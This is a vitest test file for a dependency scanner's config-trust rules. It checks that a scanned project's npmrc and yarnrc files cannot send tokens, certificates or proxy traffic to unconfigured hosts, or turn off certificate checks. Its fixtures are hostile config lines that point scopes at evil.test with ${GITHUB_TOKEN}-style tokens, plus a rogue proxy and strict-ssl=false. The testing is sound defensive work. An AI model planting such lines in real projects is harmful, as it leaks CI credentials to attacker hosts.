/**
 * What a scanned project's own `.npmrc` / `.yarnrc` / `.yarnrc.yml` may do (src/enrich/config-trust.ts):
 * read only allowed variables, send credentials and go through proxies only for hosts the user configured,
 * never turn certificate checks off; the user's own files keep working as npm reads them.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { projectRootOf } from '../../src/enrich/config-trust.js';
import { defaultRegistry } from '../../src/enrich/default-registry.js';
import { proxyFor } from '../../src/enrich/network.js';
import { authorizationFor, clientCertificateFor, loadRegistryConfig, type ConfigSources } from '../../src/enrich/registry-config.js';
import { FIXTURES, tempDir } from '../helpers.js';

const SECRET = 'ghs_SECRETvalue0123456789';
const ENV = { GITHUB_TOKEN: SECRET, INPUT_TOKEN: SECRET, NODE_AUTH_TOKEN: 'node-auth-token', CORP_TOKEN: 'corp-token' };
const none = '/nonexistent/npmrc';
const DEFAULT = new URL(defaultRegistry()!);

/** A repository (with `.git`) whose project folder holds `files`; a user npmrc outside it. */
function repository(files: Record<string, string>, user = ''): { project: string; userConfig: string; home: string } {
  const repo = tempDir();
  mkdirSync(join(repo, '.git'));
  const project = join(repo, 'app');
  mkdirSync(project);
  for (const [name, text] of Object.entries(files)) writeFileSync(join(name.startsWith('../') ? repo : project, name.replace('../', '')), text);
  const home = tempDir();
  const userConfig = join(home, '.npmrc');
  writeFileSync(userConfig, user);
  return { project, userConfig, home };
}

async function load(files: Record<string, string>, options: Partial<ConfigSources> & { user?: string } = {}) {
  const { project, userConfig, home } = repository(files, options.user);
  const config = await loadRegistryConfig({ projectDir: project, userConfig, globalConfig: none, home, env: ENV, ...options });
  return { config, codes: config.issues.map((i) => i.code), messages: config.issues.map((i) => i.message).join('\n') };
}

describe("the scanned project's configuration", () => {
  it.each<[string, Record<string, string>, Partial<ConfigSources> & { user?: string }, string, string | undefined]>([
    ['a token from a variable it may not read is left empty', { '.npmrc': '@corp:registry=https://corp.test/\n//corp.test/:_authToken=${GITHUB_TOKEN}\n' }, { allowedRegistries: ['corp.test'] }, 'https://corp.test/@corp%2fx', undefined],
    ['NODE_AUTH_TOKEN is readable by default (GitHub Packages), for an allowed host', { '.npmrc': '@corp:registry=https://corp.test/\n//corp.test/:_authToken=${NODE_AUTH_TOKEN}\n' }, { allowedRegistries: ['https://corp.test/'] }, 'https://corp.test/@corp%2fx', 'Bearer node-auth-token'],
    ['--allow-env adds a variable', { '.npmrc': '//corp.test/:_authToken=${CORP_TOKEN}\n' }, { allowEnv: ['CORP_TOKEN'], allowedRegistries: ['corp.test'] }, 'https://corp.test/x', 'Bearer corp-token'],
    ["a host the user's own .npmrc names is allowed", { '.npmrc': '//corp.test/:_authToken=${NODE_AUTH_TOKEN}\n' }, { user: '@corp:registry=https://corp.test/\n' }, 'https://corp.test/x', 'Bearer node-auth-token'],
    ['the --registry host is allowed', { '.npmrc': '//corp.test:8443/:_authToken=${NODE_AUTH_TOKEN}\n' }, { registry: 'https://corp.test:8443/' }, 'https://corp.test:8443/x', 'Bearer node-auth-token'],
    ['a token for a host nobody configured is not sent', { '.npmrc': '@evil:registry=http://evil.test/\n//evil.test/:_authToken=${NODE_AUTH_TOKEN}\n' }, {}, 'http://evil.test/@evil%2fx', undefined],
    ['nor a literal _auth', { '.npmrc': '//evil.test/:_auth=dXNlcjpwYXNz\n' }, {}, 'http://evil.test/x', undefined],
    ['nor username and _password', { '.npmrc': '//evil.test/:username=u\n//evil.test/:_password=cHc=\n' }, {}, 'http://evil.test/x', undefined],
    ['nor the user info of a scope registry URL', { '.npmrc': '@evil:registry=http://u:${NODE_AUTH_TOKEN}@evil.test/\n' }, {}, 'http://evil.test/@evil%2fx', undefined],
    ["nor to npm's default registry, which the user did not name", { '.npmrc': `//${DEFAULT.host}/:_authToken=\${NODE_AUTH_TOKEN}\n` }, {}, `${DEFAULT.origin}/x`, undefined],
    ["but to npm's default registry when the user names it", { '.npmrc': `//${DEFAULT.host}/:_authToken=\${NODE_AUTH_TOKEN}\n` }, { user: `registry=${DEFAULT.href}\n` }, `${DEFAULT.origin}/x`, 'Bearer node-auth-token'],
    ['another port is another host', { '.npmrc': '//corp.test:9999/:_authToken=${NODE_AUTH_TOKEN}\n' }, { allowedRegistries: ['corp.test:8443'] }, 'https://corp.test:9999/x', undefined],
  ])('%s', async (_name, files, options, url, header) => {
    const { config, messages } = await load(files, options);
    expect(authorizationFor(config, url)).toBe(header);
    expect(messages).not.toContain(SECRET);
    expect(messages).not.toContain('node-auth-token');
  });

  it('warns naming the file, the key and the variable, never its value', async () => {
    const { codes, messages } = await load({ '.npmrc': '//evil.test/:_authToken=${INPUT_TOKEN}|${GITHUB_TOKEN}\n' });
    expect(codes).toEqual(['W_CONFIG_ENV', 'W_CONFIG_ENV', 'W_CONFIG_CREDENTIAL']);
    expect(messages).toMatch(/\/\/evil\.test\/:_authToken in .*app\/\.npmrc reads the environment variable INPUT_TOKEN/);
    expect(messages).toMatch(/reads the environment variable GITHUB_TOKEN/);
    expect(messages).toMatch(/app\/\.npmrc sets a token for evil\.test/);
    expect(messages).not.toContain(SECRET);
  });

  it("points a scope at another registry, as npm would, without the credential", async () => {
    const { config, codes } = await load({ '.npmrc': '@evil:registry=http://evil.test/\n' });
    expect(config.scopes.get('@evil')).toBe('http://evil.test/');
    expect(codes).toEqual([]);
  });

  it('goes through its proxy only when the proxy host is allowed', async () => {
    const files = { '.npmrc': 'proxy=http://evil-proxy.test:3128\nhttps-proxy=http://evil-proxy.test:3128\n' };
    const ignored = await load(files, { user: 'proxy=http://corp-proxy.test:8080\n' });
    expect(proxyFor(ignored.config.network, 'http://r.test/x')).toBe('http://corp-proxy.test:8080');
    expect(ignored.codes).toEqual(['W_CONFIG_PROXY', 'W_CONFIG_PROXY']);
    expect((await load(files)).config.network.proxy).toBeUndefined();
    const allowed = await load(files, { allowedRegistries: ['http://evil-proxy.test:3128'] });
    expect(proxyFor(allowed.config.network, 'http://r.test/x')).toBe('http://evil-proxy.test:3128');
    expect(allowed.codes).toEqual([]);
  });

  it('cannot turn certificate checks off; the user can', async () => {
    const project = await load({ '.npmrc': 'strict-ssl=false\n' });
    expect(project.config.network.strictSsl).toBe(true);
    expect(project.codes).toEqual(['W_CONFIG_STRICT_SSL']);
    expect((await load({}, { user: 'strict-ssl=false\n' })).config.network.strictSsl).toBe(false);
    expect((await load({ '.npmrc': 'strict-ssl=false\n' }, { env: { npm_config_strict_ssl: 'false' } })).config.network.strictSsl).toBe(false);
  });

  it('sends a client certificate only to an allowed host, and reads no file for another', async () => {
    const tls = join(FIXTURES, 'tls');
    const files = { '.npmrc': `//evil.test/:certfile=/nonexistent/cert.pem\n//evil.test/:keyfile=/nonexistent/key.pem\n//corp.test/:certfile=${tls}/client.pem\n//corp.test/:keyfile=${tls}/client.key\n` };
    const { config, codes } = await load(files, { allowedRegistries: ['corp.test'] });
    expect(clientCertificateFor(config, 'https://evil.test/x')).toBeUndefined();
    expect(clientCertificateFor(config, 'https://corp.test/x')?.cert).toContain('BEGIN CERTIFICATE');
    expect(codes).toEqual(['W_CONFIG_CREDENTIAL']);
  });

  it('a .yarnrc.yml in a folder of the repository above the project is the project\'s too; yarn\'s fallback applies', async () => {
    const { config, codes, messages } = await load(
      { '../.yarnrc.yml': 'npmScopes:\n  evil:\n    npmRegistryServer: http://evil.test\n    npmAuthToken: "${GITHUB_TOKEN:-none}"\n', 'yarn.lock': '' },
      { lockfileFormat: 'yarn-berry' },
    );
    expect(authorizationFor(config, 'http://evil.test/@evil%2fx')).toBeUndefined();
    expect(codes).toEqual(['W_CONFIG_ENV', 'W_CONFIG_CREDENTIAL']);
    expect(messages).toMatch(/npmScopes\.evil\.npmAuthToken in .*\.yarnrc\.yml reads the environment variable GITHUB_TOKEN/);
  });

  it("the user's yarn token follows a registry the project sets only when that host is allowed", async () => {
    const files = { '.yarnrc.yml': 'npmRegistryServer: http://evil.test\n', 'yarn.lock': '' };
    const { project, userConfig, home } = repository(files);
    writeFileSync(join(home, '.yarnrc.yml'), 'npmAuthToken: home-token\n');
    const sources = { projectDir: project, userConfig, globalConfig: none, home, env: ENV, lockfileFormat: 'yarn-berry' as const };
    const refused = await loadRegistryConfig(sources);
    expect(authorizationFor(refused, 'http://evil.test/x')).toBeUndefined();
    expect(refused.issues.map((i) => i.message).join('\n')).toMatch(/\.yarnrc\.yml \(for the registry set in .*app\/\.yarnrc\.yml\) sets a token for evil\.test/);
    expect(authorizationFor(await loadRegistryConfig({ ...sources, allowedRegistries: ['evil.test'] }), 'http://evil.test/x')).toBe('Bearer home-token');
  });

  it("the user's own files read every variable, as npm does", async () => {
    const { config, codes } = await load({}, { user: '//corp.test/:_authToken=${CORP_TOKEN}\n' });
    expect(authorizationFor(config, 'https://corp.test/x')).toBe('Bearer corp-token');
    expect(codes).toEqual([]);
  });

  it('refuses an allowed registry that is neither a URL nor a host', async () => {
    await expect(load({}, { allowedRegistries: ['https://'] })).rejects.toMatchObject({ code: 'E_USAGE' });
  });
});

describe('the project root', () => {
  it.each<[string, (dirs: { repo: string; app: string }) => NodeJS.ProcessEnv, (dirs: { repo: string; app: string }) => string]>([
    ['the repository the project is in', () => ({}), ({ repo }) => repo],
    ['the GitHub workspace that holds it', ({ repo }) => ({ GITHUB_WORKSPACE: join(repo, '..') }), ({ repo }) => join(repo, '..')],
    ['not a GitHub workspace that does not hold it', () => ({ GITHUB_WORKSPACE: tempDir() }), ({ repo }) => repo],
  ])('is %s', (_name, env, expected) => {
    const repo = join(tempDir(), 'repo');
    const app = join(repo, 'packages', 'app');
    mkdirSync(app, { recursive: true });
    mkdirSync(join(repo, '.git'));
    expect(projectRootOf(app, env({ repo, app }))).toBe(expected({ repo, app }));
  });

  it('is the project folder when no repository holds it', () => {
    const app = tempDir();
    expect(projectRootOf(app, {})).toBe(app);
  });
});
